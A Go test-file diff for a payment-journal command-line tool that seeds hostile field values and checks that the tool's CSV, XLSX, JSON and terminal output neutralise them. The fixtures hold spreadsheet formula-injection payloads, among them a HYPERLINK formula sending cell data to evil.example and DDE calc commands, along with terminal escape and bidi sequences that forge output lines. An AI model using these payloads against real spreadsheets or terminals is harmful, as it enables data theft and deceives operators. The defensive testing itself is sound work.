@@ -8,9 +8,12 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	"github.com/xuri/excelize/v2"
 
@@ -521,5 +524,342 @@ func TestJournal_TillOf(t *testing.T) {
 		if got := tillOf(&plugin.Payment{CheckID: tc.check, OrderNo: tc.order}); got != tc.want {
 			t.Errorf("tillOf(%s, %s) = %q, want %q", tc.check, tc.order, got, tc.want)
 		}
+	}
+}
+
+// Hostile texts: what a till, PayMaster or a tampered journal could leave
+// in a payment's fields.
+const (
+	evilTitle = "\x1b]0;pwned\x07"         // sets the terminal's title
+	evilLine  = "\x1b[2K\rFAKE: paid OK\n" // erases the line and writes another
+	evilCode  = evilTitle + evilLine
+	evilBidi  = "\u202egnp.exe\u2066\u009b31m\x7f" // reverses the text, a C1 CSI, DEL
+)
+
+// seedHostile records four payments whose fields start formulas or hold
+// terminal escapes:
+//
+//	h1 check =HYPERLINK(…), order @SUM…, result code and reason with ESC/BEL, not_paid
+//	h2 check +cmd|calc!A0, order -2+3+cmd…, PayMaster id @pm, -1,50 ₽, result code -1, paid
+//	h3 check @SUM(1+1), PayMaster id and status starting with tab and CR, bidi error, needs_attention
+//	h4 check -5, order starting with a tab, creating
+func (fx *journalFixture) seedHostile() {
+	t := fx.t
+	t.Helper()
+	db, err := sqlite.Open(filepath.Join(fx.dataDir, "sbpd.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	j := db.Journal()
+	ctx := context.Background()
+	at := time.Date(2025, 4, 1, 10, 0, 0, 0, msk)
+	add := func(p *plugin.Payment, final plugin.Event) {
+		t.Helper()
+		at = at.Add(time.Hour)
+		state := p.State
+		p.State, p.IdempotencyKey, p.CreatedAt, p.UpdatedAt = plugin.StateCreating, "key-"+p.ID, at, at
+		if err := j.Create(ctx, &plugin.Payment{ID: p.ID, CheckID: p.CheckID, OrderNo: p.OrderNo, Amount: p.Amount,
+			State: plugin.StateCreating, IdempotencyKey: p.IdempotencyKey, CreatedAt: at, UpdatedAt: at},
+			plugin.Event{Kind: plugin.EvCreated, At: at, Actor: "till"}); err != nil {
+			t.Fatal(err)
+		}
+		if state == plugin.StateCreating {
+			return
+		}
+		p.State, p.UpdatedAt = state, at.Add(time.Second)
+		final.At = p.UpdatedAt
+		if err := j.Update(ctx, p, final); err != nil {
+			t.Fatal(err)
+		}
+	}
+	add(&plugin.Payment{ID: "h1", CheckID: `=HYPERLINK("http://evil.example/?"&A1,"click")`, OrderNo: `@SUM(1+1)*cmd|' /C calc'!A0`,
+		Amount: 25990, State: plugin.StateNotPaid, PayMasterID: "pm-h1", PayMasterStatus: "Rejected", ResultCode: evilCode,
+		Reason: plugin.Reason("\x1b[32mpaid\x1b[0m")},
+		plugin.Event{Kind: plugin.EvFinal, Actor: "sbpd", Detail: "PayMaster says Rejected/" + evilCode})
+	add(&plugin.Payment{ID: "h2", CheckID: "+cmd|calc!A0", OrderNo: "-2+3+cmd|' /C calc'!A0", Amount: -150,
+		State: plugin.StatePaid, PayMasterID: "@pm", PayMasterStatus: "Settled", ResultCode: "-1"},
+		plugin.Event{Kind: plugin.EvFinal, Actor: "sbpd"})
+	add(&plugin.Payment{ID: "h3", CheckID: "@SUM(1+1)", OrderNo: "K07-@SUM(1+1)-1", Amount: 100,
+		State: plugin.StateNeedsAttention, PayMasterID: "\tpm-h3", PayMasterStatus: "\rSettled", QRPayload: "https://qr.nspk.ru/" + evilTitle,
+		Error: &plugin.APIError{Code: "cancel_failed", Message: evilBidi}},
+		plugin.Event{Kind: plugin.EvAttention, Actor: "\x1b[8m", Detail: evilBidi})
+	add(&plugin.Payment{ID: "h4", CheckID: "-5", OrderNo: "\t=1+1", Amount: 100, State: plugin.StateCreating}, plugin.Event{})
+}
+
+// rawControl says what in s could act on a terminal or a reader's eye: a C0
+// control other than newline, DEL, a C1 control, a bidi or other format
+// character, a line separator, a byte that is not UTF-8. "" when none.
+func rawControl(s string) string {
+	for i, r := range s {
+		switch {
+		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
+			return fmt.Sprintf("byte %#x at %d (not UTF-8)", s[i], i)
+		case r == '\n':
+		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r):
+			return fmt.Sprintf("%U at %d", r, i)
+		}
+	}
+	return ""
+}
+
+// numberCell is a cell a spreadsheet reads as a number, never a formula.
+var numberCell = regexp.MustCompile(`^[-+]?[0-9]+([.,][0-9]+)?$`)
+
+func TestJournalExport_CSVFormulaInjection(t *testing.T) {
+	fx := newJournalFixture(t)
+	fx.seedHostile()
+	out := fx.mustRun("export", "--format", "csv")
+	if why := rawControl(out); why != "" {
+		t.Errorf("csv holds a raw %s:\n%q", why, out)
+	}
+	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err, out)
+	}
+	if len(recs) != 5 || strings.Count(out, "\n") != 5 {
+		t.Fatalf("csv has %d records on %d lines, want 5 on 5:\n%s", len(recs), strings.Count(out, "\n"), out)
+	}
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	for _, rec := range recs[1:] {
+		for i, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !numberCell.MatchString(cell) {
+				t.Errorf("%s %s = %q starts a formula", rec[col["id"]], recs[0][i], cell)
+			}
+		}
+	}
+	byID := map[string][]string{}
+	for _, rec := range recs[1:] {
+		byID[rec[col["id"]]] = rec
+	}
+	for _, tc := range []struct{ id, column, want string }{
+		// Text that could start a formula gets a leading quote; the rest
+		// of the value is as recorded.
+		{"h1", "check_id", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"h1", "order_no", `'@SUM(1+1)*cmd|' /C calc'!A0`},
+		{"h2", "check_id", "'+cmd|calc!A0"},
+		{"h2", "order_no", "'-2+3+cmd|' /C calc'!A0"},
+		{"h2", "paymaster_id", "'@pm"},
+		{"h3", "check_id", "'@SUM(1+1)"},
+		{"h3", "till_id", "K07"},
+		// A tab or CR is escaped, so it no longer starts the cell.
+		{"h3", "paymaster_id", `\x09pm-h3`},
+		{"h3", "paymaster_status", `\x0dSettled`},
+		{"h4", "order_no", `\x09=1+1`},
+		// Numbers stay numbers: a negative amount, a negative result code,
+		// a check id that is a number.
+		{"h2", "amount_rub", "-1.50"},
+		{"h2", "amount_kopecks", "-150"},
+		{"h2", "result_code", "-1"},
+		{"h4", "check_id", "-5"},
+		{"h1", "amount_rub", "259.90"},
+		{"h1", "amount_kopecks", "25990"},
+		// Terminal escapes are written out visibly.
+		{"h1", "result_code", `\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a`},
+		{"h1", "reason", `\x1b[32mpaid\x1b[0m`},
+		{"h3", "error", `cancel_failed: \u202egnp.exe\u2066\u009b31m\x7f`},
+	} {
+		if got := byID[tc.id][col[tc.column]]; got != tc.want {
+			t.Errorf("%s %s = %q, want %q", tc.id, tc.column, got, tc.want)
+		}
+	}
+}
+
+func TestJournal_TerminalEscapes(t *testing.T) {
+	fx := newJournalFixture(t)
+	fx.seedHostile()
+	clean := func(what, out string) {
+		t.Helper()
+		if why := rawControl(out); why != "" {
+			t.Errorf("%s prints a raw %s:\n%q", what, why, out)
+		}
+		for _, line := range strings.Split(out, "\n") {
+			if strings.HasPrefix(line, "FAKE") {
+				t.Errorf("%s: a forged line %q", what, line)
+			}
+		}
+	}
+
+	// The table: one line per payment, the escapes visible.
+	out := fx.mustRun("list")
+	clean("list", out)
+	if n := strings.Count(out, "\n"); n != 5 {
+		t.Errorf("list has %d lines, want the header and 4:\n%s", n, out)
+	}
+	if !strings.Contains(out, `\x1b[32mpaid\x1b[0m`) || !strings.Contains(out, `\x09pm-h3`) {
+		t.Errorf("list does not show the escapes visibly:\n%s", out)
+	}
+
+	// show: every field and every event.
+	out = fx.mustRun("show", "h1")
+	clean("show h1", out)
+	for _, want := range []string{
+		"result code:       " + `\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a` + "\n",
+		"reason:            " + `\x1b[32mpaid\x1b[0m` + "\n",
+		"check:             " + `=HYPERLINK("http://evil.example/?"&A1,"click")` + "\n", // a terminal runs no formula
+		`PayMaster says Rejected/\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a` + "\n",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("show h1: missing %q in\n%s", want, out)
+		}
+	}
+	out = fx.mustRun("show", "h3")
+	clean("show h3", out)
+	for _, want := range []string{
+		"error:             " + `cancel_failed: \u202egnp.exe\u2066\u009b31m\x7f` + "\n",
+		"paymaster id:      " + `\x09pm-h3` + "\n",
+		"qr payload:        https://qr.nspk.ru/" + `\x1b]0;pwned\x07` + "\n",
+		`  \x1b[8m  \u202egnp.exe\u2066\u009b31m\x7f` + "\n",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("show h3: missing %q in\n%s", want, out)
+		}
+	}
+
+	// JSON stays exact: valid, every value decodes to what was recorded,
+	// and no raw control, C1 or bidi character is in the bytes.
+	out = fx.mustRun("show", "h3", "--json")
+	clean("show --json", out)
+	var v struct {
+		Payment plugin.Payment `json:"payment"`
+		Events  []plugin.Event `json:"events"`
+	}
+	if err := json.Unmarshal([]byte(out), &v); err != nil {
+		t.Fatal(err, out)
+	}
+	if v.Payment.Error == nil || v.Payment.Error.Message != evilBidi || v.Payment.PayMasterID != "\tpm-h3" ||
+		v.Payment.PayMasterStatus != "\rSettled" || len(v.Events) != 2 || v.Events[1].Detail != evilBidi || v.Events[1].Actor != "\x1b[8m" {
+		t.Errorf("show --json does not hold the recorded values: %+v", v)
+	}
+	out = fx.mustRun("list", "--json")
+	clean("list --json", out)
+	var ps []plugin.Payment
+	if err := json.Unmarshal([]byte(out), &ps); err != nil {
+		t.Fatal(err, out)
+	}
+	got := map[string]string{}
+	for _, p := range ps {
+		got[p.ID] = p.CheckID + "|" + p.OrderNo + "|" + p.ResultCode + "|" + string(p.Reason)
+	}
+	if got["h1"] != `=HYPERLINK("http://evil.example/?"&A1,"click")|@SUM(1+1)*cmd|' /C calc'!A0|`+evilCode+"|\x1b[32mpaid\x1b[0m" ||
+		got["h4"] != "-5|\t=1+1||" {
+		t.Errorf("list --json values changed: %q", got)
+	}
+
+	// XLSX: a spreadsheet cell is never a formula there, so the text is as
+	// recorded but for the escapes.
+	path := filepath.Join(t.TempDir(), "hostile.xlsx")
+	fx.mustRun("export", "--format", "xlsx", "-o", path)
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := f.GetRows(xlsxSheet)
+	if err != nil || len(rows) != 5 {
+		t.Fatalf("xlsx rows %d, %v", len(rows), err)
+	}
+	for r, row := range rows {
+		for c, cell := range row {
+			name, _ := excelize.CoordinatesToCellName(c+1, r+1)
+			if why := rawControl(cell); why != "" || strings.Contains(cell, "\n") {
+				t.Errorf("xlsx %s = %q holds a raw %s", name, cell, why)
+			}
+			if formula, _ := f.GetCellFormula(xlsxSheet, name); formula != "" {
+				t.Errorf("xlsx %s is a formula %q", name, formula)
+			}
+		}
+	}
+	if rows[1][4] != `=HYPERLINK("http://evil.example/?"&A1,"click")` || rows[1][14] != `\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a` {
+		t.Errorf("xlsx h1: check %q, result code %q", rows[1][4], rows[1][14])
+	}
+}
+
+// TestJournalActions_TerminalEscapes: PayMaster answers with a result code
+// and an order number holding terminal escapes; mark-paid's refusal,
+// mark-not-paid's report, show and reconcile print them visibly, never raw.
+func TestJournalActions_TerminalEscapes(t *testing.T) {
+	f := newActFixture(t)
+	code := evilCode + "\u009b2J\u202e"
+	declined := f.plant("301", 15000, plugin.StateNeedsAttention, true)
+	if err := f.sb.Decline(declined.PayMasterID, code); err != nil {
+		t.Fatal(err)
+	}
+	clean := func(what, out string) {
+		t.Helper()
+		if why := rawControl(out); why != "" {
+			t.Errorf("%s prints a raw %s:\n%q", what, why, out)
+		}
+		for _, line := range strings.Split(out, "\n") {
+			if strings.HasPrefix(line, "FAKE") {
+				t.Errorf("%s: a forged line %q", what, line)
+			}
+		}
+	}
+	visible := `Rejected/\x1b]0;pwned\x07\x1b[2K\x0dFAKE: paid OK\x0a\u009b2J\u202e`
+
+	out, err := f.run("journal", "mark-paid", declined.ID, "--reason", "test")
+	wantRefused(t, out, err, "not marked paid", visible)
+	clean("mark-paid refused", out)
+
+	out, err = f.run("journal", "mark-not-paid", declined.ID, "--reason", "test", "--by", "ivanov\x1b[8m")
+	if err != nil {
+		t.Fatal(err, out)
+	}
+	clean("mark-not-paid", out)
+	if !strings.Contains(out, visible) || !strings.Contains(out, `by ivanov\x1b[8m`) {
+		t.Errorf("mark-not-paid does not show what PayMaster said visibly:\n%s", out)
+	}
+	if got := f.get(declined.ID); got.ResultCode != code {
+		t.Errorf("journal result code %q, want the raw %q: nothing recorded is lost", got.ResultCode, code)
+	}
+	out, err = f.run("journal", "show", declined.ID)
+	if err != nil {
+		t.Fatal(err, out)
+	}
+	clean("show", out)
+	if !strings.Contains(out, `\x1b]0;pwned\x07`) {
+		t.Errorf("show does not show the result code visibly:\n%s", out)
+	}
+
+	// reconcile: a status mismatch quoting the result code, and a payment
+	// at PayMaster only whose order number holds escapes.
+	attention := f.plant("302", 15000, plugin.StateNeedsAttention, true)
+	if err := f.sb.SetStatus(attention.PayMasterID, "Pending\x1b[2K"); err != nil {
+		t.Fatal(err)
+	}
+	orphan, err := f.gw.CreatePayment(context.Background(), plugin.CreateRequest{OrderNo: "K07-303\x1b[31m\u202e-1", Amount: 30000,
+		Description: "test 303", Expires: time.Now().Add(30 * time.Minute), IdempotencyKey: "idem-303"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := f.sb.Pay(orphan.ID); err != nil {
+		t.Fatal(err)
+	}
+	from := time.Now().Add(-time.Hour).Format(time.RFC3339)
+	to := time.Now().Add(time.Hour).Format(time.RFC3339)
+	out, err = f.run("journal", "reconcile", "--from", from, "--to", to)
+	if err == nil {
+		t.Fatalf("reconcile found no differences:\n%s", out)
+	}
+	clean("reconcile", out)
+	for _, want := range []string{`Pending\x1b[2K`, `K07-303\x1b[31m\u202e-1`} {
+		if !strings.Contains(out, want) {
+			t.Errorf("reconcile: missing %q in\n%s", want, out)
+		}
+	}
+	out, _ = f.run("journal", "reconcile", "--from", from, "--to", to, "--json")
+	js := out[:strings.LastIndex(out, "\nerror: ")]
+	clean("reconcile --json", js)
+	r := parseRecon(t, js)
+	orders := map[string]bool{}
+	for _, d := range r.Differences {
+		orders[d.OrderNo] = true
+	}
+	if !orders[orphan.OrderNo] || !orders[attention.OrderNo] {
+		t.Errorf("reconcile --json orders %v: want the raw %q and %q", orders, orphan.OrderNo, attention.OrderNo)
 	}
 }
